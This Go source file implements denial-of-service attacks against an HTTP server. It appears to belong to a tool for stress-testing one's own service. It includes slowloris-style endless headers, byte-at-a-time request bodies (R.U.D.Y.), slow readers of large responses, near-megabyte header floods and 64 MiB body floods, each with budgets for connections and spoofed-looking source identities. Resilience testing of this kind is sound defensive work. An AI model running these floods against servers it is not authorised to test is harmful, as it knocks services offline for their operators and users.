package attack

import (
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

var slow = []Attack{
	{
		Name:  "slow-header",
		About: "request headers that never end, a line now and then (slowloris)",
		Usual: Budget{Conns: 1000, BytesPerSecond: 500_000, Identities: 100},
		begin: func(c *campaign) {
			c.dribble(head("GET", "/hello", ""), "X-More: of the same\r\n")
		},
	},
	{
		Name:  "slow-body",
		About: "bodies that come a byte at a time (R.U.D.Y.)",
		Usual: Budget{Conns: 1000, BytesPerSecond: 500_000, Identities: 100},
		begin: func(c *campaign) {
			c.dribble(head("POST", "/upload", stranger(1)+"Content-Length: 500000\r\n")+"\r\n", "x")
		},
	},
	{
		Name:  "refused-body",
		About: "bodies of refused requests, below 256 KiB, that come a byte at a time",
		Usual: Budget{Conns: 1000, BytesPerSecond: 500_000, Identities: 100},
		begin: func(c *campaign) {
			// Without a token the handler refuses at once and leaves the body to the server.
			c.dribble(head("POST", "/upload", "Content-Length: 200000\r\n")+"\r\n", "x")
		},
	},
	{
		Name:  "slow-reader",
		About: "big responses that are hardly read",
		// Each costs the kernel a megabyte or so, from a memory that all programs of the machine share.
		Usual: Budget{Conns: 300, BytesPerSecond: 500_000, Identities: 100},
		begin: readSlowly,
	},
	{
		Name:  "huge-headers",
		About: "close to a megabyte of request headers on each connection, without an end",
		Usual: Budget{Conns: 300, BytesPerSecond: 64_000_000, Identities: 100},
		begin: sendHugeHeaders,
	},
	{
		Name:  "big-bodies",
		About: "bodies of 64 MiB each",
		Usual: Budget{Conns: 64, BytesPerSecond: 200_000_000, Identities: 64},
		begin: sendBigBodies,
	},
}

// dribbleEvery is the time between two drops of a slow sender.
const dribbleEvery = 250 * time.Millisecond

// dribble sends a beginning on each connection and then drop after drop until the target closes it.
func (c *campaign) dribble(beginning, drop string) {
	c.everyConn(func(worker int) {
		conn, err := c.open(c.source(worker))
		if err != nil {
			return
		}
		c.heed(conn, c.countAnswers())
		defer conn.Close()
		if _, err := io.WriteString(conn, beginning); err != nil {
			return
		}
		c.tally.sent.Add(1)
		c.drip(conn, drop)
	})
}

// drip sends drop after drop until conn is closed.
func (c *campaign) drip(conn net.Conn, drop string) {
	for sleep(c.ctx, dribbleEvery) == nil {
		if _, err := io.WriteString(conn, drop); err != nil {
			return
		}
	}
}

func readSlowly(c *campaign) {
	c.everyConn(func(worker int) {
		raw, err := c.dialNarrow(c.source(worker))
		if err != nil {
			return
		}
		var conn net.Conn = raw
		if c.target.TLS != nil {
			if conn, err = c.handshake(raw, "http/1.1"); err != nil {
				return
			}
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, head("GET", "/big", stranger(worker))+"\r\n"); err != nil {
			return
		}
		c.tally.sent.Add(1)
		drop := make([]byte, 16)
		for sleep(c.ctx, dribbleEvery) == nil {
			if _, err := conn.Read(drop); err != nil {
				return
			}
		}
	})
}

func sendHugeHeaders(c *campaign) {
	const lines, size = 118, 8000 // together below the default limit of net/http, 1 MiB
	c.everyConn(func(worker int) {
		conn, err := c.open(c.source(worker))
		if err != nil {
			return
		}
		c.heed(conn, c.countAnswers())
		defer conn.Close()
		if _, err := io.WriteString(conn, head("GET", "/hello", "")); err != nil {
			return
		}
		c.tally.sent.Add(1)
		for i := range lines {
			if _, err := fmt.Fprintf(conn, "X-%d: %s\r\n", i, strings.Repeat("h", size)); err != nil {
				return
			}
		}
		c.drip(conn, "X: y\r\n")
	})
}

func sendBigBodies(c *campaign) {
	const size = 64 << 20
	piece := strings.Repeat("b", pieces)
	c.everyConn(func(worker int) {
		conn, err := c.open(c.source(worker))
		if err != nil {
			return
		}
		c.heed(conn, c.countAnswers())
		defer conn.Close()
		start := head("POST", "/upload", stranger(worker)+fmt.Sprintf("Content-Length: %d\r\n", size))
		if _, err := io.WriteString(conn, start+"\r\n"); err != nil {
			return
		}
		c.tally.sent.Add(1)
		for range size / pieces {
			if _, err := io.WriteString(conn, piece); err != nil {
				return
			}
		}
	})
}
